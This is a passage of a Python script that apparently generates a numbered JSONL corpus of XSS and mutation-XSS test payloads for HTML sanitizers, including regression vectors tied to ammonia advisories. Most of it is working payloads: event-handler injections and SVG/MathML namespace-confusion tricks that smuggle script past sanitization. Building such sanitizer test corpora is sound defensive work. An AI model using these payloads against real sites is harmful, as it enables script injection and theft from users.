    "<details open ontoggle=confirm(1)>",
    "<input autofocus onfocus=prompt(1)>",
    "<img src=x onerror=print()>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
)


# --- appended later (ids above stay as they were) -----------------------------------------------
# ammonia's own advisories and regression vectors: RUSTSEC-2021-0074 (embedded SVG/MathML),
# RUSTSEC-2025-0071 (namespace change after cleanup), RUSTSEC-2026-0193 (MathML annotation-xml
# encoding strip), RUSTSEC-2026-0213 / GHSA-m6mh-2hw2-555x (SVG animate/set to a javascript: href).
add("mxss", "ammonia-advisory",
    "<svg><iframe><a title=\"</iframe><img src onerror=PWN>\">test",
    "<svg><foreignObject><table><path><xmp><!--</xmp><img title'--&gt;&lt;img src=1 onerror=PWN&gt;'>",
    "<svg><foreignObject><math><iframe><!--</iframe><img src onerror=PWN>-->",
    "<math><mtext><table><mglyph><xmp><!--</xmp><img title='--&gt;&lt;img src=1 onerror=PWN&gt;'>",
    "<math><annotation-xml encoding='text/html'><xmp><!--</xmp><img title='--&gt;&lt;img src=1 onerror=PWN&gt;'>",
    "<math><annotation-xml encoding='image/svg+xml'><xmp><!--</xmp><img title='--&gt;&lt;img src=1 onerror=PWN&gt;'>",
    "<math><annotation-xml><style><img src=x onerror=PWN></style></annotation-xml></math>",
    "<math><mi><svg><iframe><!--</iframe><img src onerror=PWN>-->",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><a><set attributeName=\"href\" to=\"javascript:PWN\"></set><text y=\"30\">Click set</text></a></svg>",
    "<svg><a><animateTransform attributeName=\"href\" values=\"javascript:PWN\"/><text y=\"30\">x</text></a></svg>",
    "<mglyph><style><img src=x onerror=PWN></style></mglyph>",
    "<foreignObject><p><style><img title=\"</style><img src=x onerror=PWN>\"></p></foreignObject>",
    "<listing><img src=x onerror=PWN></listing>",
)

def main():
    seen = set()
    lines = []
    for n, (source, klass, template) in enumerate(T, start=1):
        if callable(template):
            payload = template(n)
        else:
            # Hard-coded flags (inside encodings written out by hand) take the id too.
            payload = template.replace("__pwned=1", f"__pwned={n}")
            payload = payload.replace("TOPPWN", top(n)).replace("PWN", pwn(n))
        if payload in seen:
            raise SystemExit(f"duplicate payload #{n}: {payload!r}")
        seen.add(payload)
        lines.append(json.dumps({"id": n, "source": source, "class": klass, "payload": payload}, ensure_ascii=False))
    OUT.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"{len(lines)} payloads -> {OUT}")


if __name__ == "__main__":
    main()
